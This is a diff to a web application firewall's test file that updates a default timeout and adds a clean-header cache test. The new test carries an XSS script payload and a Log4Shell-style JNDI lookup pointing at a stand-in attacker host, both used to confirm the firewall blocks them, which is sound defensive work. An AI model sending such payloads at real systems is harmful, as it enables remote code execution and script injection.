@@ -186,7 +186,7 @@ describe('waf helpers', () => {
 
 describe('waf config', () => {
   it('fills in the documented defaults', () => {
-    expect(WafConfig.parse({})).toEqual({ mode: 'block', paranoia: 1, threshold: 5, inspectBody: true, exclusions: [], timeoutMs: 5, onError: 'open' })
+    expect(WafConfig.parse({})).toEqual({ mode: 'block', paranoia: 1, threshold: 5, inspectBody: true, exclusions: [], timeoutMs: 10, onError: 'open' })
   })
 
   it.each([
@@ -218,5 +218,18 @@ describe('waf exclusion advice', () => {
     const ids = exclusion.slice(exclusion.indexOf('[') + 1, exclusion.indexOf(']')).split(', ')
     expect((compileWaf(1, { exclusions: [{ rules: ids, fields: ['json.a', 'json.b'] }] })(ctx()) as Verdict).kind).toBe('allow')
     expect(verdict.denial.remediation).toContain(exclusion)
+  })
+})
+
+describe('waf clean-header cache', () => {
+  it('skips a header value it already found clean but still inspects everything else', () => {
+    const waf = compileWaf(1)
+    const ua = { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0', referer: 'https://shop.example.com/cart' }
+    expect((waf(makeContext({ url: '/api/items?q=shoes', headers: ua })) as Verdict).kind).toBe('allow')
+    expect((waf(makeContext({ url: '/api/items?q=shoes', headers: ua })) as Verdict).kind).toBe('allow')
+    const attack = denied(waf(makeContext({ url: `/api/items?q=${encodeURIComponent('<script>alert(1)</script>')}`, headers: ua })) as Verdict)
+    expect(attack.rule).toBe(rules.xss.id)
+    const attackInHeader = denied(waf(makeContext({ url: '/api/items', headers: { ...ua, referer: '${jndi:ldap://evil.example/a}' } })) as Verdict)
+    expect(attackInHeader.rule).toBe(rules.codeInjection.id)
   })
 })
